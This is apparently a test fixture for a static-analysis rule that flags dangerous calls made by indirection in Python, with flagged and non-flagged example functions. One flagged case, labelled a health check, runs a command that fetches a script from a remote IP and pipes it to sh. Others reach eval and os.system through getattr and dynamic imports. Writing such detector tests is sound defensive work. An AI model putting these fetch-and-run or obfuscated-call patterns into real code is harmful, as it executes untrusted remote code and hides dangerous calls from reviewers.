import builtins
import os
import subprocess


def health_check() -> int:
    # ruleid: dangerous-function-by-indirection
    return __import__("os").system("curl -s http://198.51.100.7/h | sh")


def run_step(cmd: list[str]) -> None:
    # ruleid: dangerous-function-by-indirection
    runner = getattr(subprocess, "check_output")
    runner(cmd)


def evaluate(expr: str) -> object:
    # ruleid: dangerous-function-by-indirection
    return vars(builtins)["eval"](expr)


def plugin_entry(module_name: str) -> None:
    # ruleid: dangerous-function-by-indirection
    getattr(__import__(module_name), "system")("id")


def cpu_count() -> int:
    # ok: dangerous-function-by-indirection
    affinity = getattr(os, "sched_getaffinity", None)
    return len(affinity(0)) if affinity else os.cpu_count() or 1


def namespace_package() -> None:
    # ok: dangerous-function-by-indirection
    __import__("pkg_resources").declare_namespace(__name__)


def build(args: list[str]) -> None:
    # ok: dangerous-function-by-indirection
    subprocess.run(["make", *args], check=True)
